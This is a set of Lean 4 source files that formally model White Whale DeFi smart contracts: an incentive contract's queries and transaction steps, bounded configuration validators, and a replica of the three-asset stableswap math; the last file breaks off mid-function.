      .ok ({ s with flows := removeFlow s.flows id }, [.send INC f.creator f.asset (f.funded - f.claimed)])

/-! ### queries -/

/-- `QueryMsg::Positions`: open `(dur, amount, weight)`, closed `(amount, ts)` -/
def qOpenWeights : List OpenPos → Res (List (Nat × Nat × Nat))
  | [] => .ok []
  | p :: t => do
    let w ← calcWeight p.dur p.amt
    let r ← qOpenWeights t
    pure ((p.dur, p.amt, w) :: r)

/-- `ADDRESS_WEIGHT_HISTORY.prefix(address).range(..).collect::<BTreeMap>()` as the share query builds it -/
def mineOf (wh : List ((Addr × Nat) × Nat)) (u : Addr) : List (Nat × Nat) :=
  (wh.filter (fun p => p.1.1 = u)).map (fun p => (p.1.2, p.2))

/-- the weight the share query reads: the entry with the largest epoch `≤ E` of the address's map
    (only entries for epochs up to the current one are in effect), `0` if there is none -/
def seenAt (wh : List ((Addr × Nat) × Nat)) (u : Addr) (E : Nat) : Nat :=
  match maxKeyLE (mineOf wh u) E with
  | some (_, w) => w
  | none => 0

/-- `QueryMsg::CurrentEpochRewardsShare`: `(address_weight, global_weight, share atomics)` -/
def qShare (s : St) (u : Addr) (epoch : Nat) : Res (Nat × Nat × Nat) :=
  match earliest s.whist u with
  | none => .ok (0, aget s.snap epoch, 0)
  | some _ =>
    let seen := seenAt s.whist u epoch
    match alook s.snap epoch with
    | none => .err
    | some g =>
      if g = 0 then .ok (seen, g, 0)
      else
        match dec256FromRatio seen g with
        | .ok sh => .ok (seen, g, sh)
        | .err => .err
        | .panic => .panic

/-- `get_filtered_flow(flow, None, None)` as used by `QueryMsg::Flows {}` -/
def filteredFlow (f : Flow) : Flow :=
  let lo := f.startE
  let hi := f.startE + INCENTIVE_MAX_EPOCH_LIMIT
  { f with hist := f.hist.filter (fun p => lo ≤ p.1 && p.1 ≤ hi),
           emitted := f.emitted.filter (fun p => lo ≤ p.1 && p.1 ≤ hi) }

/-! ### the frontend helper path (helper + mock pair of the harness + incentive) -/

/-- `frontend_helper::Deposit { assets: [native 1: a0, cw20 3: a1], unbonding_duration }` through a pair
    that takes the assets and hands `a0 + a1` LP tokens to the helper; the helper then opens or expands
    the depositor's position with its whole LP balance. Returns the final state (messages applied). -/
def helperDeposit (c : Cfg) (s : St) (e : Env) (a0 a1 dur : Nat) : Res St := do
  let u := e.sender
  -- funds user -> helper happened in `step`; helper: allowance(user -> helper) must equal a1
  guardErr (decide (aget (allowOf c e.offers) 3 = a1))
  let funds := fundsOf c e.offers
  -- TransferFrom user -> helper a1 (no allowance record when nothing was offered)
  let b ← applyMsgs c s.bal (allowOf c e.offers) [.pull u HELPER 3 a1]
  -- submessage to the pair with all the funds: helper -> pair
  let b ← attachFunds c b HELPER PAIR funds
  -- pair handler: native asset must have been sent exactly, the LP amount is computed and must not be zero;
  -- then its messages: cw20 pulled from the helper (allowance = a1), LP handed to the helper
  guardErr (a0 = 0 || hasFunds funds 1 a0)
  let lp ← cadd U128MAX a0 a1
  guardErr (decide (lp ≠ 0))
  let b ← applyMsgs c b [(3, a1)] [.pull HELPER PAIR 3 a1]
  let b ← applyMsgs c b [] [.send PAIR HELPER 0 lp]
  -- reply: whole LP balance of the helper goes into the position of the depositor
  let lpAmt := aget b (HELPER, 0)
  let s1 := { s with bal := b }
  let _ ← qOpenWeights (openOf s1 u)        -- the Positions query must succeed
  let has := (openOf s1 u).any (fun p => p.dur = dur)
  let e2 : Env := { e with sender := HELPER, offers := [(0, lpAmt)] }
  -- native LP: the helper attaches its LP balance as funds
  let b2 ← (if c.native 0 then attachFunds c b HELPER INC [(0, lpAmt)] else pure b)
  let s2 := { s1 with bal := b2 }
  let (s3, msgs) ← (if has then expandPosition c s2 e2 lpAmt dur (some u) else openPosition c s2 e2 lpAmt dur (some u))
  let b3 ← applyMsgs c s3.bal (allowOf c e2.offers) msgs
  pure { s3 with bal := b3 }

/-! ### step -/

def handler (c : Cfg) (s : St) (e : Env) : Op → Res (St × List Msg)
  | .openPos amt dur recv => openPosition c s e amt dur recv
  | .expandPos amt dur recv => expandPosition c s e amt dur recv
  | .closePos dur => closePosition s e dur
  | .withdraw => withdrawOp s e
  | .claim => claimExec s e
  | .snapshot => takeSnapshot s e
  | .openFlow a amt st en => openFlow c s e a amt st en
  | .expandFlow id a amt en => expandFlow c s e id a amt en
  | .closeFlow id => closeFlow s e id
  | .helperDeposit _ _ _ => .err
  -- assets named in the wrong kind: the helper's allowance query on a token that does not exist fails, and the
  -- pair refuses assets that are not its own (reply: `DepositCallback` error); everything is rolled back
  | .helperDepositAs _ _ _ _ _ => .err

/-- one transaction: attach funds, run the handler, apply its messages; all or nothing -/
def step (c : Cfg) (s : St) (e : Env) (op : Op) : Res St :=
  match op with
  | .helperDeposit a0 a1 dur => do
    let b ← attachFunds c s.bal e.sender HELPER (fundsOf c e.offers)
    helperDeposit c { s with bal := b } e a0 a1 dur
  | _ => do
    let b ← attachFunds c s.bal e.sender INC (fundsOf c e.offers)
    let (s1, msgs) ← handler c { s with bal := b } e op
    let b1 ← applyMsgs c s1.bal (allowOf c e.offers) msgs
    pure { s1 with bal := b1 }

/-- a failed operation leaves the state untouched -/
def stepOrStay (c : Cfg) (s : St) (e : Env) (op : Op) : St :=
  match step c s e op with
  | .ok s' => s'
  | _ => s

def reach (c : Cfg) (s : St) : List (Env × Op) → St
  | [] => s
  | (e, op) :: t => reach c (stepOrStay c s e op) t

/-- state right after instantiation at epoch `e0` (the instantiate message takes the first snapshot) -/
def init (e0 : Nat) (bal : Bal) : St :=
  { openPos := [], closedPos := [], global := 0, addrW := [], whist := [], snap := [(e0, 0)],
    lastClaimed := [], flows := [], flowCounter := 0, bal := bal }

end WW.Inc
