/-
  Bounded configuration parameters (C18): the configuration part of every contract's state and EVERY
  path that writes it, with the validators transcribed from

    packages/white-whale-std/src/fee.rs                       Fee::is_valid, VaultFee::is_valid
    packages/white-whale-std/src/pool_network/{pair,trio}.rs  PoolFee::is_valid
    terraswap_pair/src/contract.rs (instantiate), commands.rs (update_config)
    stableswap_3pool/src/contract.rs (instantiate), commands.rs (update_config, amp ramp)
    stableswap_3pool/src/stableswap_math/curve.rs             compute_amp_factor
    terraswap_factory/src/commands.rs                         create_pair / create_trio / update_*_config
    vault/src/contract.rs (instantiate), execute/update_config.rs
    vault_factory/src/execute/{create_vault,update_vault_config}.rs
    fee_distributor/src/{helpers,contract,commands}.rs        grace period, epoch duration
    whale_lair/src/{helpers,contract,commands}.rs             growth rate, bonding assets
    fee_collector/src/{contract,commands}.rs                  take rate

  Shares / rates are `Decimal` atomics (18 decimals).  Default cargo features: a token-factory LP is
  refused by pair, 3pool and vault.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW.Config
open WW

/-- three fee shares: pools (protocol, swap, burn); vault (protocol, flash loan, burn) -/
structure Fees3 where
  a : Nat
  b : Nat
  c : Nat
deriving DecidableEq, Repr

/-- `Fee::is_valid`: `share >= 100% → Err` -/
def feeIsValid (share : Nat) : Res Unit := if share ≥ E18 then .err else .ok ()

/-- `PoolFee::is_valid` (pair and trio) and `VaultFee::is_valid`: each fee valid (`Fee::is_valid`),
    then the `checked_add` total must be below 100 %; every failure is an `Err` -/
def fees3IsValid (f : Fees3) : Res Unit :=
  if f.a ≥ E18 then .err
  else if f.b ≥ E18 then .err
  else if f.c ≥ E18 then .err
  else if f.a + f.b > U128MAX then .err
  else if f.a + f.b + f.c > U128MAX then .err
  else if f.a + f.b + f.c ≥ E18 then .err
  else .ok ()

/-- amplification bounds of the two-asset stableswap pair (`MIN_AMP..=MAX_AMP`) -/
def pairAmpOk (amp : Nat) : Bool := decide (Gen.PAIR_MIN_AMP ≤ amp) && decide (amp ≤ Gen.PAIR_MAX_AMP)

/-- `if let PairType::StableSwap { amp } = msg.pair_type { … }`: constant product has no amp to check -/
def pairTypeOk : Option Nat → Bool
  | none => true
  | some x => pairAmpOk x

structure PairCfg where
  fees : Fees3
  /-- `none` = constant product, `some amp` = `PairType::StableSwap { amp }` (immutable after instantiate) -/
  amp : Option Nat
  /-- owner is the pool factory (created through `CreatePair`) rather than the deployer -/
  viaFactory : Bool
deriving DecidableEq, Repr

/-- pair `instantiate` (the factory's `create_pair` forwards fees and pair type unchanged) -/
def pairInstantiate (via : Bool) (fees : Fees3) (amp : Option Nat) (tokenFactoryLp : Bool) : Res PairCfg :=
  match fees3IsValid fees with
  | .ok () =>
    if pairTypeOk amp = false then .err
    else if tokenFactoryLp then .err
    else .ok { fees := fees, amp := amp, viaFactory := via }
  | .err => .err
  | .panic => .panic

/-- `update_config` fee part shared by pair, trio and vault: `None` keeps, `Some f` validates and stores -/
def applyFees (old : Fees3) : Option Fees3 → Res Fees3
  | none => .ok old
  | some f =>
    match fees3IsValid f with
    | .ok () => .ok f
    | .err => .err
    | .panic => .panic

/-- pair `update_config`, reached directly (sender = deployer) or through the factory's
    `UpdatePairConfig` (sender = factory); whoever is not the owner is refused -/
def pairUpdate (via : Bool) (p : PairCfg) (fees : Option Fees3) : Res PairCfg :=
  if via ≠ p.viaFactory then .err
  else
    match applyFees p.fees fees with
    | .ok f => .ok { p with fees := f }
    | .err => .err
    | .panic => .panic

structure TrioCfg where
  fees : Fees3
  initAmp : Nat
  futAmp : Nat
  initBlock : Nat
  futBlock : Nat
  viaFactory : Bool
deriving DecidableEq, Repr

/-- 3pool `instantiate` -/
def trioInstantiate (via : Bool) (height : Nat) (fees : Fees3) (amp : Nat) (tokenFactoryLp : Bool) : Res TrioCfg :=
  match fees3IsValid fees with
  | .ok () =>
    if amp < Gen.TRIO_MIN_AMP then .err
    else if amp > Gen.TRIO_MAX_AMP then .err
    else if tokenFactoryLp then .err
    else .ok { fees := fees, initAmp := amp, futAmp := amp, initBlock := height, futBlock := height, viaFactory := via }
  | .err => .err
  | .panic => .panic

/-- `StableSwap::compute_amp_factor` with `current_ts = height`; `none` = the `unwrap()` in
    `update_config` panics -/
def currentAmp (t : TrioCfg) (height : Nat) : Option Nat :=
  if height < t.futBlock then
    if t.initBlock ≤ t.futBlock ∧ t.initBlock ≤ height then
      if t.futAmp ≥ t.initAmp then
        let d := (t.futAmp - t.initAmp) * (height - t.initBlock) / (t.futBlock - t.initBlock)
        if t.initAmp + d ≤ U64MAX then some (t.initAmp + d) else none
      else
        let d := (t.initAmp - t.futAmp) * (height - t.initBlock) / (t.futBlock - t.initBlock)
        if d ≤ t.initAmp then some (t.initAmp - d) else none
    else none
  else some t.futAmp

/-- `(future_a > cur && future_a > cur * MAX_AMP_CHANGE) || (future_a < cur && future_a * MAX_AMP_CHANGE < cur)`
    in `u64` arithmetic (overflow panics; `&&` short-circuits) -/
def ampChangeOverMax (cur fa : Nat) : Res Bool :=
  if fa > cur then
    (if cur * Gen.TRIO_MAX_AMP_CHANGE ≤ U64MAX then .ok (decide (fa > cur * Gen.TRIO_MAX_AMP_CHANGE)) else .panic)
  else if fa < cur then
    (if fa * Gen.TRIO_MAX_AMP_CHANGE ≤ U64MAX then .ok (decide (fa * Gen.TRIO_MAX_AMP_CHANGE < cur)) else .panic)
  else .ok false

/-- the `amp_factor: Option<RampAmp>` part of the 3pool's `update_config` -/
def applyRamp (height : Nat) (t : TrioCfg) : Option (Nat × Nat) → Res TrioCfg
  | none => .ok t
  | some (fa, fb) =>
    match currentAmp t height with
    | none => .panic
    | some cur =>
      if fa < Gen.TRIO_MIN_AMP then .err
      else if fa > Gen.TRIO_MAX_AMP then .err
      else
        match ampChangeOverMax cur fa with
        | .ok true => .err
        | .ok false =>
          if height + Gen.TRIO_MIN_RAMP_BLOCKS > U64MAX then .panic
          else if fb < height + Gen.TRIO_MIN_RAMP_BLOCKS then .err
          else .ok { t with initBlock := height, futBlock := fb, initAmp := cur, futAmp := fa }
        | .err => .err
        | .panic => .panic

/-- 3pool `update_config` (direct or through the factory's `UpdateTrioConfig`): fees first, then ramp -/
def trioUpdate (via : Bool) (height : Nat) (t : TrioCfg) (fees : Option Fees3) (ramp : Option (Nat × Nat)) :
    Res TrioCfg :=
  if via ≠ t.viaFactory then .err
  else
    match applyFees t.fees fees with
    | .ok f => applyRamp height { t with fees := f } ramp
    | .err => .err
    | .panic => .panic

/-- Shapes of the vault's asset that the code distinguishes (see `is_factory_token`, `is_ibc_token`,
    `get_label`, and the cw20 symbol rule `[a-zA-Z-]{3,12}`):
    `plain` "uluna"; `ibc` "ibc/<64 hex>"; `factory` "factory/<creator>/<subdenom>" — a token-factory
    asset; `twoslash` any other denom with two slashes ("gamm/pool/1"); `factorybad` "factory/<x>";
    `ibc2` "ibc/<63 alnum>/x"; `cw20` a token contract. -/
inductive AssetClass where
  | plain | ibc | factory | twoslash | factorybad | ibc2 | cw20
deriving DecidableEq, Repr

/-- what `has_factory_token(&[asset])` answers: `!(segments < 3 && first != "factory")` -/
def AssetClass.codeSaysFactory : AssetClass → Bool
  | .factory | .twoslash | .factorybad | .ibc2 => true
  | _ => false

/-- the asset is a token-factory asset in the documented sense (`factory/{creator}/{subdenom}`) -/
def AssetClass.isTokenFactory : AssetClass → Bool
  | .factory => true
  | _ => false

/-- `AssetInfo::get_label`: `twoslash` fails in `get_factory_token_label` (no "factory/" prefix),
    `factorybad` indexes out of bounds there (panic) -/
def AssetClass.label : AssetClass → Res Unit
  | .twoslash => .err
  | .factorybad => .panic
  | _ => .ok ()

/-- the derived LP symbol `uLP-<first 8 chars of label>` is a valid cw20 symbol; for a token-factory
    asset it is `uLP-factory/` which the stock cw20-base refuses (the LP-token code id is a parameter of
    `instantiate` / of the vault factory: `lenient = true` below means a code that accepts any symbol) -/
def AssetClass.lpSymbolOk : AssetClass → Bool
  | .factory => false
  | _ => true

structure VaultCfg where
  fees : Fees3
  asset : AssetClass
  viaFactory : Bool
deriving DecidableEq, Repr

/-- vault `instantiate` (default build: the LP token is always a cw20) -/
def vaultInstantiate (via : Bool) (fees : Fees3) (asset : AssetClass) (tokenFactoryLp : Bool)
    (lenient : Bool := false) : Res VaultCfg :=
  if asset.codeSaysFactory && decide (fees.c > 0) then .err
  else
    match fees3IsValid fees with
    | .ok () =>
      if tokenFactoryLp then .err
      else
        match asset.label with
        | .ok () =>
          if asset.lpSymbolOk || lenient then .ok { fees := fees, asset := asset, viaFactory := via } else .err
        | .err => .err
        | .panic => .panic
    | .err => .err
    | .panic => .panic

/-- vault factory `create_vault`: checks two of the three fees (`flash_loan_fee`, `protocol_fee`),
    computes the label, instantiates -/
def vaultCreate (fees : Fees3) (asset : AssetClass) (tokenFactoryLp : Bool) (lenient : Bool := false) :
    Res VaultCfg :=
  if fees.b ≥ E18 then .err
  else if fees.a ≥ E18 then .err
  else
    match asset.label with
    | .ok () => vaultInstantiate true fees asset tokenFactoryLp lenient
    | .err => .err
    | .panic => .panic

/-- vault `update_config` (direct or via the factory's `UpdateVaultConfig`).  The burn-fee rule is
    tested against the vault's asset and the *LP* asset (a cw20 in the default build, so only the
    former matters) — since fix 074ebd5; before it only the LP asset was tested and a burn fee could be
    stored on a vault over a token-factory asset. -/
def vaultUpdate (via : Bool) (v : VaultCfg) (fees : Option Fees3) : Res VaultCfg :=
  if via ≠ v.viaFactory then .err
  else
    match applyFees v.fees fees with
    | .ok f =>
      match fees with
      | none => .ok { v with fees := f }
      | some nf => if v.asset.codeSaysFactory && decide (nf.c > 0) then .err else .ok { v with fees := f }
    | .err => .err
    | .panic => .panic

structure DistCfg where
  grace : Nat
  duration : Nat
deriving DecidableEq, Repr

/-- `validate_grace_period` -/
def graceValid (g : Nat) : Bool := !(decide (g < 1) || decide (g > Gen.DISTRIBUTOR_MAX_GRACE_PERIOD))
/-- `validate_epoch_config` -/
def durationValid (d : Nat) : Bool := !(decide (d < Gen.DISTRIBUTOR_DAY_IN_NANOSECONDS))

def distInstantiate (grace dur : Nat) : Res DistCfg :=
  if graceValid grace = false then .err
  else if durationValid dur = false then .err
  else .ok { grace := grace, duration := dur }

/-- distributor `update_config`: epoch config first, then grace (valid and not below the stored one) -/
def distUpdate (d : DistCfg) (grace dur : Option Nat) : Res DistCfg :=
  match (match dur with
         | none => Res.ok d
         | some x => if durationValid x = false then .err else .ok { d with duration := x }) with
  | .ok d1 =>
    match grace with
    | none => .ok d1
    | some g =>
      if graceValid g = false then .err
      else if g < d1.grace then .err
      else .ok { d1 with grace := g }
  | .err => .err
  | .panic => .panic

structure LairCfg where
  growth : Nat
  nAssets : Nat
deriving DecidableEq, Repr

/-- `validate_growth_rate` -/
def growthValid (r : Nat) : Bool := !(decide (r > E18))

/-- lair `instantiate`: `n` bonding assets, `hasCw20` = one of them is a cw20 token.  With no bonding
    asset the response carries the attribute `bonding_assets = ""`, and an empty attribute value makes
    the (cw-multi-test 0.16) chain reject the transaction: `strictAttrs = true`.  Called at entry-point
    level (or on a chain that admits empty attribute values) the empty list is accepted:
    `strictAttrs = false`. -/
def lairInstantiate (growth n : Nat) (hasCw20 : Bool) (strictAttrs : Bool := true) : Res LairCfg :=
  if n > Gen.LAIR_BONDING_ASSETS_LIMIT then .err
  else if growthValid growth = false then .err
  else if hasCw20 then .err
  else if n = 0 && strictAttrs then .err
  else .ok { growth := growth, nAssets := n }

/-- lair `update_config` (the bonding assets cannot be changed after instantiation) -/
def lairUpdate (l : LairCfg) : Option Nat → Res LairCfg
  | none => .ok l
  | some r => if growthValid r = false then .err else .ok { l with growth := r }

structure CollCfg where
  take : Nat
deriving DecidableEq, Repr

def collInstantiate : CollCfg := { take := 0 }

/-- collector `update_config`: `ensure!(take_rate < Decimal::one())` -/
def collUpdate (c : CollCfg) : Option Nat → Res CollCfg
  | none => .ok c
  | some t => if t < E18 then .ok { c with take := t } else .err

/-- all stored configurations of a deployment + the block height -/
structure Cfg where
  pairs : List PairCfg
  trios : List TrioCfg
  vaults : List VaultCfg
  dist : Option DistCfg
  lair : Option LairCfg
  coll : Option CollCfg
  height : Nat
deriving DecidableEq, Repr

def Cfg.empty (height : Nat) : Cfg :=
  { pairs := [], trios := [], vaults := [], dist := none, lair := none, coll := none, height := height }

/-- every operation that can write a bounded parameter -/
inductive Op where
  | pairInst (via : Bool) (fees : Fees3) (amp : Option Nat) (tf : Bool)
  | pairUpd (via : Bool) (i : Nat) (fees : Option Fees3)
  | trioInst (via : Bool) (fees : Fees3) (amp : Nat) (tf : Bool)
  | trioUpd (via : Bool) (i : Nat) (fees : Option Fees3) (ramp : Option (Nat × Nat))
  | vaultInst (via : Bool) (fees : Fees3) (asset : AssetClass) (tf : Bool) (lenient : Bool := false)
  | vaultUpd (via : Bool) (i : Nat) (fees : Option Fees3)
  | distInst (grace dur : Nat)
  | distUpd (grace dur : Option Nat)
  | lairInst (growth n : Nat) (hasCw20 : Bool) (strictAttrs : Bool := true)
  | lairUpd (growth : Option Nat)
  | collInst
  | collUpd (take : Option Nat)
  | advance (n : Nat)
  /-- a contract's `migrate` entry point (any contract, any stored version, by the wasm admin or through its
      factory): refused or accepted, it rewrites no configuration — on the current storage layout every
      handler either stops at the version check, fails to parse an older layout, or only stamps the new
      version (`contract.rs::migrate` of the six contracts; older-layout migrations are exercised by the
      toggles engine) -/
  | migrate
deriving Repr

/-- replace the `i`-th element by the result of `f` (errors when out of range or `f` fails) -/
def updAt {α : Type} (xs : List α) (i : Nat) (f : α → Res α) : Res (List α) :=
  match xs[i]? with
  | none => .err
  | some x =>
    match f x with
    | .ok y => .ok (xs.set i y)
    | .err => .err
    | .panic => .panic

def step (c : Cfg) : Op → Res Cfg
  | .pairInst via fees amp tf =>
    match pairInstantiate via fees amp tf with
    | .ok p => .ok { c with pairs := c.pairs ++ [p] }
    | .err => .err
    | .panic => .panic
  | .pairUpd via i fees =>
    match updAt c.pairs i (fun p => pairUpdate via p fees) with
    | .ok ps => .ok { c with pairs := ps }
    | .err => .err
    | .panic => .panic
  | .trioInst via fees amp tf =>
    match trioInstantiate via c.height fees amp tf with
    | .ok t => .ok { c with trios := c.trios ++ [t] }
    | .err => .err
    | .panic => .panic
  | .trioUpd via i fees ramp =>
    match updAt c.trios i (fun t => trioUpdate via c.height t fees ramp) with
    | .ok ts => .ok { c with trios := ts }
    | .err => .err
    | .panic => .panic
  | .vaultInst via fees asset tf lenient =>
    match (if via then vaultCreate fees asset tf lenient else vaultInstantiate false fees asset tf lenient) with
    | .ok v => .ok { c with vaults := c.vaults ++ [v] }
    | .err => .err
    | .panic => .panic
  | .vaultUpd via i fees =>
    match updAt c.vaults i (fun v => vaultUpdate via v fees) with
    | .ok vs => .ok { c with vaults := vs }
    | .err => .err
    | .panic => .panic
  | .distInst g d =>
    match distInstantiate g d with
    | .ok x => .ok { c with dist := some x }
    | .err => .err
    | .panic => .panic
  | .distUpd g d =>
    match c.dist with
    | none => .err
    | some x =>
      match distUpdate x g d with
      | .ok y => .ok { c with dist := some y }
      | .err => .err
      | .panic => .panic
  | .lairInst r n k strict =>
    match lairInstantiate r n k strict with
    | .ok x => .ok { c with lair := some x }
    | .err => .err
    | .panic => .panic
  | .lairUpd r =>
    match c.lair with
    | none => .err
    | some x =>
      match lairUpdate x r with
      | .ok y => .ok { c with lair := some y }
      | .err => .err
      | .panic => .panic
  | .collInst => .ok { c with coll := some collInstantiate }
  | .collUpd t =>
    match c.coll with
    | none => .err
    | some x =>
      match collUpdate x t with
      | .ok y => .ok { c with coll := some y }
      | .err => .err
      | .panic => .panic
  | .advance n => .ok { c with height := c.height + n }
  | .migrate => .ok c

/-- run a history of write operations; a rejected one leaves every configuration as it was -/
def reach (c : Cfg) : List Op → Cfg
  | [] => c
  | op :: ops =>
    match step c op with
    | .ok c' => reach c' ops
    | _ => reach c ops

/-! ### `ConfigOk`: the documented bounds, stated with the documented numbers -/

def Fees3.ok (f : Fees3) : Bool :=
  decide (f.a < 1000000000000000000) && decide (f.b < 1000000000000000000) &&
  decide (f.c < 1000000000000000000) && decide (f.a + f.b + f.c < 1000000000000000000)

def ampInBounds (a : Nat) : Bool := decide (1 ≤ a) && decide (a ≤ 1000000)

def PairCfg.ok (p : PairCfg) : Bool :=
  p.fees.ok && (match p.amp with | none => true | some a => ampInBounds a)

def TrioCfg.ok (t : TrioCfg) : Bool := t.fees.ok && ampInBounds t.initAmp && ampInBounds t.futAmp

def VaultCfg.ok (v : VaultCfg) : Bool :=
  v.fees.ok && (!v.asset.isTokenFactory || decide (v.fees.c = 0))

def DistCfg.ok (d : DistCfg) : Bool :=
  decide (1 ≤ d.grace) && decide (d.grace ≤ 30) && decide (86400000000000 ≤ d.duration)

def LairCfg.ok (l : LairCfg) : Bool := decide (l.growth ≤ 1000000000000000000) && decide (l.nAssets ≤ 2)

def CollCfg.ok (c : CollCfg) : Bool := decide (c.take < 1000000000000000000)

def optOk {α : Type} (f : α → Bool) : Option α → Bool
  | none => true
  | some x => f x

def configOk (c : Cfg) : Bool :=
  c.pairs.all PairCfg.ok && c.trios.all TrioCfg.ok && c.vaults.all VaultCfg.ok &&
  optOk DistCfg.ok c.dist && optOk LairCfg.ok c.lair && optOk CollCfg.ok c.coll

/-- Every stored configuration is within its documented bounds. -/
def ConfigOk (c : Cfg) : Prop := configOk c = true

instance (c : Cfg) : Decidable (ConfigOk c) := inferInstanceAs (Decidable (configOk c = true))

end WW.Config
