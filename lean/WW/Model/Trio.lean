/-
  Replica of the three-asset stableswap pool (`stableswap_3pool`), default cargo features:

  * `stableswap_math/curve.rs` : `compute_amp_factor` (with ramps), `compute_next_d`, `compute_d`,
    `compute_mint_amount_for_deposit`, `compute_y_raw`, `compute_y`, `swap_to` (with its `- 1`);
    an `Option::None` of the Rust is `Res.err`, an `unwrap()`/unchecked overflow is `Res.panic`.
  * `helpers.rs` : `compute_swap` (fee split), `assert_slippage_tolerance`;
    `white-whale-std/pool_network/swap.rs::assert_max_spread`.
  * `commands.rs` / `queries.rs` / `contract.rs` as a state machine `step`, with the bank / cw20
    effects of cw-multi-test 0.16.5 + cw20-base 1.1.0 applied inline in emission order
    (native funds land before the handler runs; a cw20 `TransferFrom` lands after it; a cw20 `Send`
    lands before the hook runs; a native transfer of 0 coins is an error, a cw20 transfer of 0 is not).

  Asset balances use plain `+` on the receiving side: every asset's total supply is assumed
  `< 2^128` (the harness funds the cast accordingly), so a credit can never overflow.
-/
import WW.Cw.Arith
import WW.Gen.Constants
import WW.Model.CpSwap
namespace WW.Trio
open WW

/-- `x.unwrap()` on an `Option`: `None` (modelled `err`) becomes a panic -/
@[inline] def unwrapP {α : Type} : Res α → Res α
  | .err => .panic
  | r => r

/-- `a.checked_div(b).unwrap()` -/
@[inline] def pdiv (a b : Nat) : Res Nat := if b = 0 then .panic else .ok (a / b)

/-- `x.to_u64()?` -/
@[inline] def to64 (a : Nat) : Res Nat := if a ≤ U64MAX then .ok a else .err

/-- `Uint128::try_from(x).unwrap()` -/
@[inline] def to128P (a : Nat) : Res Nat := if a ≤ U128MAX then .ok a else .panic

/-! ## curve.rs -/

/-- amplification ramp parameters as stored in `Config`
    (`initial_amp`, `future_amp`, `initial_amp_block`, `future_amp_block`) -/
structure AmpCfg where
  init : Nat
  target : Nat
  start : Nat
  stop : Nat
deriving Repr, DecidableEq

/-- `StableSwap::compute_amp_factor` (all `u64`; `None` = `err`) -/
def ampFactor (init target cur start stop : Nat) : Res Nat :=
  if cur < stop then do
    let range ← csub stop start
    let delta ← csub cur start
    if target ≥ init then do
      let ar ← csub target init
      let m ← cmul U128MAX ar delta
      let q ← cdiv m range
      let q ← to64 q
      cadd U64MAX init q
    else do
      let ar ← csub init target
      let m ← cmul U128MAX ar delta
      let q ← cdiv m range
      let q ← to64 q
      csub init q
  else .ok target

def AmpCfg.at (A : AmpCfg) (cur : Nat) : Res Nat := ampFactor A.init A.target cur A.start A.stop

/-- `StableSwap::compute_next_d` (private in the Rust; `None` = `err`) -/
def nextD (amp dInit dProd sumX : Nat) : Res Nat := do
  let ann ← cmul U64MAX amp 3
  let lev ← pmul U256MAX sumX ann
  let t ← pmul U256MAX dProd 3
  let t ← padd U256MAX t lev
  let num ← pmul U256MAX dInit t
  let am1 ← csub ann 1
  let l ← pmul U256MAX dInit am1
  let r ← pmul U256MAX dProd 4
  let den ← padd U256MAX l r
  pdiv num den

/-- one pass of the `compute_d` loop body: the new `d` -/
def dStep (amp a3 b3 c3 sumX d : Nat) : Res Nat := do
  let p ← pmul U256MAX d d
  let p ← pdiv p a3
  let p ← pmul U256MAX p d
  let p ← pdiv p b3
  let p ← pmul U256MAX p d
  let p ← pdiv p c3
  unwrapP (nextD amp d p sumX)

/-- `|a - b| ≤ 1` as the Rust tests it -/
@[inline] def close1 (a b : Nat) : Bool := if a > b then a - b ≤ 1 else b - a ≤ 1

/-- the `for _ in 0..256` loop of `compute_d` -/
def dLoop (amp a3 b3 c3 sumX : Nat) : Nat → Nat → Res Nat
  | 0, d => .ok d
  | fuel + 1, d => do
    let d' ← dStep amp a3 b3 c3 sumX d
    if close1 d' d then .ok d' else dLoop amp a3 b3 c3 sumX fuel d'

/-- `StableSwap::compute_d` -/
def computeD (A : AmpCfg) (cur a b c : Nat) : Res Nat := do
  let bc ← padd U128MAX b c
  let sumX ← padd U128MAX a bc
  if sumX = 0 then .ok 0 else do
    let amp ← A.at cur
    let a3 ← pmul U128MAX a 3
    let b3 ← pmul U128MAX b 3
    let c3 ← pmul U128MAX c 3
    dLoop amp a3 b3 c3 sumX 256 sumX

/-- `StableSwap::compute_mint_amount_for_deposit` -/
def mintAmount (A : AmpCfg) (cur da db dc sa sb sc supply : Nat) : Res Nat := do
  let d0 ← computeD A cur sa sb sc
  let na ← padd U128MAX sa da
  let nb ← padd U128MAX sb db
  let nc ← padd U128MAX sc dc
  let d1 ← computeD A cur na nb nc
  if d1 ≤ d0 then .err else do
    let diff ← psub d1 d0
    let m ← pmul U256MAX supply diff
    let q ← pdiv m d0
    to128P q

/-- the `for _ in 0..1000` loop of `compute_y_raw` -/
def yLoop (b c d : Nat) : Nat → Nat → Res Nat
  | 0, y => .ok y
  | fuel + 1, y => do
    let yy ← pmul U256MAX y y
    let num ← padd U256MAX yy c
    let y2 ← pmul U256MAX y 2
    let t ← padd U256MAX y2 b
    let den ← psub t d
    let y' ← pdiv num den
    if close1 y' y then .ok y' else yLoop b c d fuel y'

/-- `StableSwap::compute_y_raw` -/
def yRaw (A : AmpCfg) (cur swapIn noSwap d : Nat) : Res Nat := do
  let amp ← A.at cur
  let ann ← cmul U64MAX amp 3
  let c ← pmul U256MAX d d
  let x3 ← pmul U128MAX swapIn 3
  let c ← pdiv c x3
  let c ← pmul U256MAX c d
  let n3 ← pmul U128MAX noSwap 3
  let c ← pdiv c n3
  let c ← pmul U256MAX c d
  let ann3 ← pmul U64MAX ann 3
  let c ← pdiv c ann3
  let b ← pdiv d ann
  let b ← padd U256MAX b swapIn
  let b ← padd U256MAX b noSwap
  yLoop b c d 1000 d

/-- `StableSwap::compute_y` -/
def computeY (A : AmpCfg) (cur x noSwap d : Nat) : Res Nat := do
  let y ← yRaw A cur x noSwap d
  to128P y

/-- `SwapResult` -/
structure SwapRes where
  newSource : Nat
  newDest : Nat
  swapped : Nat
deriving Repr, DecidableEq

/-- `StableSwap::swap_to` -/
def swapTo (A : AmpCfg) (cur srcAmt swapSrc swapDst unsw : Nat) : Res SwapRes := do
  let x ← padd U128MAX swapSrc srcAmt
  let d ← unwrapP (computeD A cur swapSrc swapDst unsw)
  let y ← computeY A cur x unsw d
  let t ← psub swapDst y
  let dy ← psub t 1
  let nd ← psub swapDst dy
  let ns ← padd U128MAX swapSrc srcAmt
  pure { newSource := ns, newDest := nd, swapped := dy }

/-! ## helpers.rs -/

/-- `helpers::compute_swap` (default features) -/
def computeSwap (A : AmpCfg) (cur offerPool askPool unsw offer : Nat) (f : Fees) : Res SwapComp := do
  let r ← unwrapP (swapTo A cur offer offerPool askPool unsw)
  let ret := r.swapped
